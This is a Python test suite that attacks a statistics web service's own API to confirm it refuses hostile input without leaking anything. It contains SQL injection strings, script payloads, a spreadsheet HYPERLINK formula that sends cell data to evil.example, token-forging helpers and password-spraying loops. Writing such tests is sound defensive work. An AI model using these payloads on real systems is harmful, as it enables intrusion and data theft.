"""Attacks on the service, in process with the real authenticator: SQL and script injection, CSV injection,
tampered, expired and revoked tokens, cross-site requests, huge passwords, password guessing and malformed
input. Each is refused with a clear status, is in the audit log where it is an attempt on an account, and
leaks nothing (no stack trace, no SQL, no password hash, no other user's data)."""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json
import re
import time
from collections.abc import AsyncIterator
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest
import pytest_asyncio
from openpyxl import load_workbook
from tortoise.connection import get_connection

from server import rulesets
from server.queries import ALERT_FILTERS
from server.store.models import AuditEntry, DataTemplate, LoginThrottle, User
from tests.server.test_permissions import (
    PASSWORD,
    STREAMS,
    World,
    add_user,
    bearer,
    client_for,
    close_world,
    concrete,
    open_world,
    route_name,
    sign_in,
)

pytestmark = pytest.mark.asyncio(loop_scope="module")

API = Path(__file__).parents[2] / "server" / "api"
INJECTIONS = ("' OR 1=1 --", '"; DROP TABLE observation; --', "1 UNION SELECT password_hash FROM app_user",
              "x' OR 'x'='x" * 30)  # the last one longer than any column
# What must never reach a caller once the caller's own input is taken out of the answer.
LEAKS = ("$argon2", "Traceback", 'File "', "sqlite3", "OperationalError", "IntegrityError", "syntax error",
         "SELECT ", "password_hash", "tortoise")
CHINESE = re.compile(r"[\u4e00-\u9fff]")
FORMULA_START = ("=", "+", "-", "@")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def world(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[World]:
    shared = await open_world(tmp_path_factory.mktemp("attacks"))
    yield shared
    await close_world(shared)


def found_in_sources(*patterns: str) -> list[str]:
    """Every name the API reads with one of these patterns, so a parameter added later is attacked too."""
    text = "\n".join(p.read_text(encoding="utf-8") for p in sorted(API.glob("*.py")))
    return sorted({name for pattern in patterns for name in re.findall(pattern, text)})


QUERY_PARAMETERS = sorted(set(found_in_sources(r'request\.args\.get(?:list)?\("(\w+)"',
                                               r'params\.\w+\(request, "(\w+)"'))
                          | set(ALERT_FILTERS) | {"action", "actor", "target"})  # the last read in a loop by /audit
BODY_KEYS = found_in_sources(r'body\.get\("(\w+)"', r'_text\(body, "(\w+)"', r'body\["(\w+)"\]')


def without_input(text: str) -> str:
    """The answer with the attacker's own strings taken out (an echo of one's input is not a leak)."""
    for injected in INJECTIONS:
        for form in (injected, json.dumps(injected, ensure_ascii=False)[1:-1], injected.replace('"', '""')):
            text = text.replace(form, "")
    return text


def leaks(response: httpx.Response) -> list[str]:
    text = without_input(unquote(response.content.decode("utf-8", errors="replace")))
    return [marker for marker in LEAKS if marker in text]


def message(response: httpx.Response) -> str:
    return response.json()["error"]["message"]


async def table_counts() -> dict[str, int]:
    connection = get_connection("default")
    counts = {}
    for table in ("observation", "app_user", "alert", "ruleset", "app_session", "import_batch"):
        rows = await connection.execute_query_dict(f"SELECT count(*) AS n FROM {table}")
        counts[table] = rows[0]["n"]
    return counts


async def audited(action: str) -> int:
    return await AuditEntry.filter(action=action).count()


# ---------------------------------------------------------------------- SQL injection


async def test_sql_injection_in_every_query_parameter_of_every_get_route(world: World) -> None:
    assert {"indicator", "entity", "q", "after", "as_of", "actor"} <= set(QUERY_PARAMETERS)
    before = await table_counts()
    problems = []
    for route in world.app.router.routes:
        if "GET" not in route.methods or route_name(world.app, route) in STREAMS:
            continue
        for injected in INJECTIONS:
            path = "/" + re.sub(r"<\w+:(\w+)>", lambda m, i=injected: "999999" if m[1] == "int" else i,
                                route.path).lstrip("/")
            for name in QUERY_PARAMETERS:
                response = await world.client.get(path, params={name: injected},
                                                  headers=world.headers["administrator"])
                if response.status_code >= 500 or leaks(response):
                    problems.append(f"GET {path}?{name}=…: {response.status_code} {leaks(response)}")
    events = await world.client.get("/api/v1/events", params={"after": INJECTIONS[0]},
                                    headers=world.headers["administrator"])
    assert events.status_code == 400 and CHINESE.search(message(events))
    assert problems == [], "\n".join(problems)
    assert await table_counts() == before


async def test_sql_injection_in_the_json_bodies_of_every_route_that_takes_one(world: World) -> None:
    assert {"username", "password", "observations", "files", "note", "display_name"} <= set(BODY_KEYS)
    before = await table_counts()
    problems = []
    for route in world.app.router.routes:
        method = next(iter(route.methods))
        if method == "GET" or route_name(world.app, route) == "account.logout":
            continue
        path = concrete(route.path).replace("999999", str(world.alerts["xintai"])) \
            if "alert_id" in route.path else concrete(route.path)
        for injected in INJECTIONS:
            for body in ({key: injected for key in BODY_KEYS},
                         {"observations": [dict.fromkeys(("indicator", "entity", "period", "value"), injected)]}):
                response = await world.client.request(method, path, json=body,
                                                      headers=world.headers["administrator"])
                if response.status_code >= 500 or leaks(response):
                    problems.append(f"{method} {path}: {response.status_code} {leaks(response)}")
    assert problems == [], "\n".join(problems)
    assert await table_counts() == before
    assert await User.filter(password_hash__contains="argon2").count() == before["app_user"]


# ---------------------------------------------------------------------- script and formula injection


SCRIPT = "<script>alert('泰山')</script>"


def rule_files_with_hostile_names() -> dict[str, str]:
    files = rulesets.read_rule_files(["rules/taian"])
    files["rules/taian/indicators_trade.rules"] += "".join(
        f'\nindicator {name} "{title}" {{\n  unit "亿元"\n  frequency monthly\n  form ytd\n}}\n'
        for name, title in (("xss_probe", f"{SCRIPT}外贸"), ("csv_probe", "=1+2 外贸")))
    files["rules/taian/regions.rules"] += f'\nentity xss_zone "{SCRIPT}园区" zone in taian {{ overlay }}\n'
    return files


async def activate_hostile_rules(world: World) -> dict:
    """A statistician uploads rules whose names carry a script and a formula; an administrator makes them live."""
    uploaded = await world.post("statistician", "/api/v1/rulesets",
                                {"files": rule_files_with_hostile_names(), "comment": SCRIPT})
    assert uploaded.status_code == 201, uploaded.text
    if not uploaded.json()["active"]:
        activated = await world.post("administrator", f"/api/v1/rulesets/{uploaded.json()['version']}/activate", {})
        assert activated.status_code == 200, activated.text
    return uploaded.json()


async def test_script_in_names_and_notes_comes_back_as_data(world: World) -> None:
    assert (await activate_hostile_rules(world))["comment"] == SCRIPT
    found = await world.get("leader", "/api/v1/indicators", q="xss_probe")
    assert found.headers["content-type"].startswith("application/json")
    assert [i["name"] for i in found.json()["items"]] == [f"{SCRIPT}外贸"]
    zone = await world.get("leader", "/api/v1/entities", q="xss_zone")
    assert [e["name"] for e in zone.json()["items"]] == [f"{SCRIPT}园区"]
    noted = await world.post("statistician", f"/api/v1/alerts/{world.alerts['xintai']}/actions",
                             {"action": "comment", "note": f"{SCRIPT}说明"})
    assert noted.status_code == 200 and noted.json()["notes"][-1]["note"] == f"{SCRIPT}说明"
    story = await world.get("leader", f"/api/v1/alerts/{world.alerts['xintai']}")
    assert story.headers["content-type"].startswith("application/json")
    assert story.json()["notes"][-1]["note"] == f"{SCRIPT}说明"
    user = await add_user(world, "display_probe", "leader")
    hostile = "<img src=x onerror=alert(1)>"
    renamed = await world.client.patch(f"/api/v1/users/{user.id}", json={"display_name": hostile},
                                       headers=world.headers["administrator"])
    assert renamed.status_code == 200 and renamed.json()["display_name"] == hostile
    listed = await world.get("administrator", "/api/v1/users")
    assert hostile in [u["display_name"] for u in listed.json()["items"]]


def csv_cells(response: httpx.Response) -> list[str]:
    assert response.status_code == 200, response.text
    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(response: httpx.Response) -> list[tuple[str, object]]:
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    return [(cell.data_type, cell.value) for sheet in book for row in sheet.iter_rows() for cell in row]


async def test_exports_do_not_start_a_cell_with_a_formula_trigger(world: World) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    await activate_hostile_rules(world)
    user = await add_user(world, "formula_probe", "leader")
    renamed = await world.client.patch(f"/api/v1/users/{user.id}", json={"display_name": formula},
                                       headers=world.headers["administrator"])
    assert renamed.status_code == 200
    hostile = []
    for url, params in (("/api/v1/users", {}), ("/api/v1/indicators", {"q": "csv_probe"})):
        cells = csv_cells(await world.get("administrator", url, format="csv", **params))
        hostile += [c for c in cells if ("HYPERLINK" in c or "1+2" in c) and c.startswith(FORMULA_START)]
        sheet = xlsx_cells(await world.get("administrator", url, format="xlsx", **params))
        hostile += [str(v) for kind, v in sheet if kind == "f" or (isinstance(v, str) and v.startswith(FORMULA_START))]
    assert hostile == []


# ---------------------------------------------------------------------- tokens


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def forge(key: bytes, claims: dict) -> str:
    body = b64(json.dumps(claims, separators=(",", ":")).encode())
    return f"ta1.{body}.{b64(hmac.new(key, body.encode(), hashlib.sha256).digest())}"


def flipped(text: str, at: int) -> str:
    return text[:at] + ("A" if text[at] != "A" else "B") + text[at + 1:]


async def assert_refused(world: World, headers: dict[str, str], url: str = "/api/v1/auth/me") -> None:
    response = await world.client.get(url, headers=headers)
    assert response.status_code == 401, (headers, response.text)
    assert response.json()["error"]["code"] == "unauthenticated" and CHINESE.search(message(response))
    assert response.headers["www-authenticate"] == "Bearer" and not leaks(response)


async def test_tampered_forged_and_expired_access_tokens_are_refused_and_audited(world: World) -> None:
    token = world.headers["leader"]["Authorization"].removeprefix("Bearer ")
    _, body, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    admin = await User.get(username="administrator")
    key = await world.app.ctx.authenticate.key()
    bad = [f"ta1.{flipped(body, 5)}.{signature}", f"ta1.{body}.{flipped(signature, 3)}",
           f"ta1.{b64(json.dumps({**claims, 'u': admin.id}).encode())}.{signature}",
           forge(key, {**claims, "e": int(time.time()) - 60}),
           forge(b"not-the-service-key", {**claims, "e": int(time.time()) + 600}),
           forge(key, {**claims, "e": "never"}), forge(key, {"s": "no-such-session", "e": int(time.time()) + 600}),
           f"ta1.{body}.", "ta1..", "ta2." + token[4:], "garbage", "ta1.%%%.$$$"]
    before = await audited("auth.rejected")
    for forged in bad:
        await assert_refused(world, {"Authorization": f"Bearer {forged}"})
    assert await audited("auth.rejected") - before == len(bad)
    assert (await world.client.get("/api/v1/auth/me", headers=world.headers["leader"])).status_code == 200


async def test_a_token_stops_working_when_its_session_ends(world: World) -> None:
    await add_user(world, "revoked", "statistician")
    first, second = await sign_in(world.client, "revoked"), await sign_in(world.client, "revoked")
    signed_out = await world.client.post("/api/v1/auth/logout", headers=bearer(first))
    assert signed_out.status_code == 200
    await assert_refused(world, bearer(first))
    refreshed = await world.client.post("/api/v1/auth/refresh", json={"refresh_token": first["refresh_token"]})
    assert refreshed.status_code == 401 and refreshed.json()["error"]["code"] == "bad_token"
    # A password change ends every other session, not the one that made it.
    third = await sign_in(world.client, "revoked")
    changed = await world.client.post("/api/v1/auth/password", headers=bearer(third),
                                      json={"old_password": PASSWORD, "new_password": "Another-Pass-2027?"})
    assert changed.status_code == 200 and changed.json()["sessions_revoked"] == 1
    await assert_refused(world, bearer(second))
    again = await world.client.post("/api/v1/auth/refresh", json={"refresh_token": second["refresh_token"]})
    assert again.status_code == 401
    assert (await world.client.get("/api/v1/auth/me", headers=bearer(third))).status_code == 200
    # An administrator disabling the account ends the rest.
    user = await User.get(username="revoked")
    disabled = await world.client.patch(f"/api/v1/users/{user.id}", json={"disabled": True},
                                        headers=world.headers["administrator"])
    assert disabled.status_code == 200
    await assert_refused(world, bearer(third))
    login = await world.client.post("/api/v1/auth/login", json={"username": "revoked",
                                                                "password": "Another-Pass-2027?"})
    assert login.status_code == 401 and message(login) == "用户名或密码错误"
    assert await audited("auth.refresh_rejected") >= 2


async def test_a_revoked_api_token_is_refused(world: World) -> None:
    made = await world.post("administrator", "/api/v1/tokens", {"name": "夜间任务", "permissions": ["data:read"]})
    assert made.status_code == 201
    token = {"Authorization": f"Bearer {made.json()['token']}"}
    assert (await world.client.get("/api/v1/entities", headers=token)).status_code == 200
    revoked = await world.client.delete(f"/api/v1/tokens/{made.json()['id']}", headers=world.headers["administrator"])
    assert revoked.status_code == 200
    before = await audited("auth.rejected")
    await assert_refused(world, token, "/api/v1/entities")
    await assert_refused(world, {"Authorization": "Bearer tk1_" + "x" * 43}, "/api/v1/entities")
    assert await audited("auth.rejected") - before == 2
    listed = await world.get("administrator", "/api/v1/tokens")
    assert made.json()["token"] not in listed.text and "token_hash" not in listed.text


# ---------------------------------------------------------------------- cross-site requests


async def test_a_cookie_session_needs_its_csrf_token_to_change_anything(world: World) -> None:
    async with client_for(world.app, "198.51.100.20") as browser:
        login = await browser.post("/api/v1/auth/login",
                                   json={"username": "statistician", "password": PASSWORD, "web": True})
        signed_in = login.json()
        assert browser.cookies.get("taishan_session") and signed_in["refresh_token"] is None
        session_cookie = next(c for c in login.headers.get_list("set-cookie") if c.startswith("taishan_session="))
        assert "HttpOnly" in session_cookie and "SameSite=Strict" in session_cookie
        url = f"/api/v1/alerts/{world.alerts['xintai']}/actions"
        note = {"action": "comment", "note": "跨站请求"}
        for headers in ({}, {"X-CSRF-Token": "wrong"}, {"X-CSRF-Token": ""}):
            refused = await browser.post(url, json=note, headers={**headers, "Origin": "http://evil.example"})
            assert refused.status_code == 403 and refused.json()["error"]["code"] == "csrf", headers
            assert CHINESE.search(message(refused))
        assert (await browser.get("/api/v1/auth/me")).status_code == 200  # reading needs no CSRF token
        allowed = await browser.post(url, json=note, headers={"X-CSRF-Token": signed_in["csrf_token"]})
        assert allowed.status_code == 200
        browser.cookies.clear()
        assert (await browser.post(url, json=note, headers={"X-CSRF-Token": signed_in["csrf_token"]})
                ).status_code == 401


async def test_a_refused_cross_site_request_is_audited(world: World) -> None:
    async with client_for(world.app, "198.51.100.21") as browser:
        await sign_in(browser, "statistician", web=True)
        before = await AuditEntry.all().count()
        refused = await browser.post(f"/api/v1/alerts/{world.alerts['xintai']}/actions",
                                     json={"action": "comment", "note": "跨站请求"})
        assert refused.status_code == 403
        assert await AuditEntry.all().count() > before


# ---------------------------------------------------------------------- passwords


async def test_a_huge_password_is_refused_at_once_without_hashing(world: World) -> None:
    huge = "Aa1!" * 262144  # 1 MiB
    signed_in = await sign_in(world.client, "data_officer")
    for url, body, headers in (
            ("/api/v1/auth/login", {"username": "data_officer", "password": huge}, {}),
            ("/api/v1/auth/login", {"username": "data_officer", "password": huge[:1000]}, {}),
            ("/api/v1/auth/password", {"old_password": huge, "new_password": "Another-Pass-2027?"}, bearer(signed_in)),
            ("/api/v1/auth/password", {"old_password": PASSWORD, "new_password": huge}, bearer(signed_in)),
            ("/api/v1/auth/password", {"old_password": PASSWORD, "new_password": huge[:1000]}, bearer(signed_in))):
        started = time.perf_counter()
        response = await world.client.post(url, json=body, headers=headers)
        elapsed = time.perf_counter() - started
        assert response.status_code in (400, 401), response.text
        assert elapsed < 0.5, (url, elapsed)
        assert CHINESE.search(message(response)) and len(response.content) < 500
    assert (await User.get(username="data_officer")).password_hash == world.password_hash
    await LoginThrottle.filter(key="account:data_officer").delete()


async def test_guessing_passwords_locks_the_account_and_the_address(world: World) -> None:
    await add_user(world, "victim", "leader")
    async with client_for(world.app, "203.0.113.10") as guesser:
        locked_before = await audited("auth.locked")
        for _ in range(5):
            wrong = await guesser.post("/api/v1/auth/login", json={"username": "victim", "password": "Wrong-Guess-1"})
            assert wrong.status_code == 401 and message(wrong) == "用户名或密码错误"
        locked = await guesser.post("/api/v1/auth/login", json={"username": "victim", "password": PASSWORD})
        assert locked.status_code == 429 and int(locked.headers["retry-after"]) >= 1
        assert CHINESE.search(message(locked))
        assert await audited("auth.locked") == locked_before + 1
        assert await AuditEntry.filter(action="auth.login_failed", actor="victim").count() == 5
    # One address spraying guesses over many accounts is stopped too, and other addresses are not.
    async with client_for(world.app, "203.0.113.20") as sprayer:
        for n in range(21):
            await sprayer.post("/api/v1/auth/login", json={"username": f"ghost{n}", "password": "Wrong-Guess-1"})
        stopped = await sprayer.post("/api/v1/auth/login", json={"username": "leader", "password": PASSWORD})
        assert stopped.status_code == 429 and "retry-after" in stopped.headers
    async with client_for(world.app, "203.0.113.30") as colleague:
        assert (await colleague.post("/api/v1/auth/login", json={"username": "leader", "password": PASSWORD})
                ).status_code == 200


# ---------------------------------------------------------------------- malformed input


def assert_refused_in_chinese(response: httpx.Response) -> None:
    assert 400 <= response.status_code < 500, response.text
    assert CHINESE.search(message(response)) and not leaks(response)


async def test_malformed_json_huge_numbers_and_odd_unicode_are_refused_in_chinese(world: World) -> None:
    admin = world.headers["administrator"]
    raw = [b"not json", b"[1, 2]", b"\xff\xfe\x00", b"[" * 100000, b'{"observations": ', b"null", b'"text"']
    for body in raw:
        for url in ("/api/v1/observations", "/api/v1/auth/login", "/api/v1/users", "/api/v1/rulesets"):
            assert_refused_in_chinese(await world.client.post(url, content=body, headers=admin))
    rows = [{"indicator": {"$gt": ""}, "entity": ["xintai"], "period": {"y": 2026}, "value": {"v": 1}},
            {"indicator": "ind_va", "entity": "xintai", "period": "2026-10", "value": "1e400"},
            {"indicator": "ｉｎｄ＿ｖａ", "entity": "新泰\u202e市", "period": "２０２６-10", "value": "1\u00a0000"},
            {"indicator": "ind_va", "entity": "xin\u200btai", "period": "2026-10\x00", "value": True}]
    for row in rows:
        response = await world.client.post("/api/v1/observations", headers=admin,
                                           content=json.dumps({"observations": [row]}).replace('"1e400"', "1e400"))
        assert_refused_in_chinese(response)
        assert response.status_code == 422 and response.json()["error"]["details"][0]["row"] == 1
    for body in ({"username": {"$ne": None}, "password": "x"}, {"username": ["administrator"], "password": PASSWORD},
                 {"username": "administrator", "password": {"$gt": ""}}, {"username": "admin\x00", "password": "x"}):
        assert_refused_in_chinese(await world.client.post("/api/v1/auth/login", json=body))
    for username in ("ad\u200bmin", "\u202eadmin", "a\x00b", "a/b", "", "x" * 65, "<script>"):
        created = await world.post("administrator", "/api/v1/users",
                                   {"username": username, "password": PASSWORD, "role": "leader"})
        assert_refused_in_chinese(created)
    for name, value in (("limit", "9" * 40), ("offset", "-1"), ("since", "2026-13"), ("entity", "\u202e\x00")):
        response = await world.get("leader", "/api/v1/alerts", **{name: value})
        assert response.status_code in (200, 400) and not leaks(response), name
    series = await world.get("leader", "/api/v1/series", indicator="ｇｄｐ", vintage="1e3")
    assert_refused_in_chinese(series)
    await LoginThrottle.filter(key__startswith="account:").delete()


async def test_an_integer_too_large_for_a_float_is_a_row_error(world: World) -> None:
    body = '{"observations": [{"indicator": "ind_va", "entity": "xintai", "period": "2026-10", "value": 1' \
           + "0" * 400 + "}]}"
    response = await world.client.post("/api/v1/observations", content=body, headers=world.headers["administrator"])
    assert response.status_code == 422 and response.json()["error"]["details"][0]["column"] == "value"


async def test_token_and_alert_action_bodies_of_the_wrong_shape_are_400(world: World) -> None:
    wrong = [("/api/v1/tokens", {"name": "x", "permissions": ["data:read"], "days": "abc"}),
             ("/api/v1/tokens", {"name": "x", "permissions": ["data:read"], "days": [1]}),
             ("/api/v1/tokens", {"name": "x", "permissions": [["data:read"]]}),
             ("/api/v1/tokens", {"name": "x", "permissions": ["data:read"], "scope": [{"id": "xintai"}]}),
             (f"/api/v1/alerts/{world.alerts['xintai']}/actions", {"action": ["comment"], "note": "x"})]
    statuses = [(await world.post("administrator", url, body)).status_code for url, body in wrong]
    assert statuses == [400] * len(wrong)


async def test_objects_where_text_is_expected_are_refused(world: World) -> None:
    user = await add_user(world, "shape_probe", "leader")
    changed = await world.client.patch(f"/api/v1/users/{user.id}", json={"display_name": {"a": 1}},
                                       headers=world.headers["administrator"])
    noted = await world.post("statistician", f"/api/v1/alerts/{world.alerts['xintai']}/actions",
                             {"action": "comment", "note": {"a": 1}})
    assert (changed.status_code, noted.status_code) == (400, 400)


async def test_a_template_named_in_chinese_is_reachable_by_its_url(world: World) -> None:
    await DataTemplate.create(name="工业月报", layout="long", indicators=["ind_va"], entities=["xintai"])
    shown = await world.get("leader", "/api/v1/templates/工业月报")
    assert shown.status_code == 200 and shown.json()["name"] == "工业月报"
